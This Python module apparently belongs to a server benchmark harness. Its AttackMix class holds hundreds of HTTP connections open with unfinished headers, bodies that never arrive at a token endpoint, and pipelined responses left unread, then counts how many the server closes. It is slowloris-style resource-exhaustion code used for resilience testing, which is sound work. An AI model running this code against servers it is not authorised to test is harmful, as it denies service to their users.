"""The attack mix of issue 26 beside the benchmark's valid load, from one thread: whole requests
whose clients never close, a pipelined next request's first byte, 64 KB heads never finished,
bodies that never arrive (chunked, ``Expect: 100-continue``, large) without credentials at about
60 a second, and pipelined answers never read. Every socket is kept open until ``stop()``."""

from __future__ import annotations

import socket
import threading
import time
from urllib.parse import urlsplit

MINT = "/api/cometchat/token/bench-attack"


def _request(method: str, path: str, *lines: str, version: str = "1.1") -> bytes:
    head = f"{method} {path} HTTP/{version}\r\nHost: x\r\n" + "".join(f"{line}\r\n" for line in lines)
    return (head + "\r\n").encode()


STANDING = (
    (40, _request("GET", "/healthz", version="1.0")),
    (300, _request("GET", "/healthz") + b"G"),
    (100, b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Pad: " + b"a" * (64 * 1024)),
)
NEVER_ARRIVING = (
    _request("POST", MINT, "Transfer-Encoding: chunked"),
    _request("POST", MINT, "Content-Length: 100", "Expect: 100-continue"),
    _request("POST", MINT, f"Content-Length: {70 * 1024}"),
)
NEVER_READ = (16, _request("GET", "/openapi.json") * 300)
BODIES_PER_SECOND = 60


class AttackMix:
    def __init__(self, root: str) -> None:
        parts = urlsplit(root)
        self._address = (parts.hostname or "127.0.0.1", parts.port or 80)
        self._sockets: list[socket.socket] = []
        self._stop = threading.Event()
        self.opened = 0
        self.refused = 0
        for count, payload in STANDING:
            for _ in range(count):
                self._open(payload)
        for _ in range(NEVER_READ[0]):
            sock = self._open(b"", rcvbuf=4096)
            if sock is not None:
                sock.setblocking(False)
                try:
                    sock.send(NEVER_READ[1])
                except OSError:
                    pass
        self._thread = threading.Thread(target=self._bodies, daemon=True)
        self._thread.start()

    def _open(self, payload: bytes, rcvbuf: int = 0) -> socket.socket | None:
        try:
            sock = socket.create_connection(self._address, timeout=5)
            if rcvbuf:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
            if payload:
                sock.sendall(payload)
        except OSError:
            self.refused += 1
            return None
        self.opened += 1
        self._sockets.append(sock)
        return sock

    def _bodies(self) -> None:
        n = 0
        while not self._stop.wait(1 / BODIES_PER_SECOND):
            self._open(NEVER_ARRIVING[n % len(NEVER_ARRIVING)])
            n += 1

    def stop(self) -> dict[str, int]:
        self._stop.set()
        self._thread.join(10)
        closed_by_server = 0
        for sock in self._sockets:
            sock.setblocking(False)
            try:
                closed_by_server += sock.recv(1, socket.MSG_PEEK) == b""
            except BlockingIOError:
                pass
            except OSError:
                closed_by_server += 1
            sock.close()
        time.sleep(0.5)
        return {"opened": self.opened, "refused": self.refused, "closed_by_server": closed_by_server}
